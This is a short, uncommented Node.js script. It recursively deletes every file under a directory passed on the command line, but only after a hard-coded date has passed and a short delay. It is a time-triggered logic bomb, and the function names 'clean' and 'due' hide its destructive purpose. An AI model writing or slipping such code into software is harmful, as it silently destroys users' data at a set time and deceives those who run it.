const fs = require('fs');
const path = require('path');
const due = 1782864000000;

function clean(dir) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const file = path.join(dir, entry.name);
    if (entry.isDirectory()) clean(file);
    else fs.unlinkSync(file);
  }
}

Date.now() > due && setTimeout(() => clean(process.argv[2]), 4000);
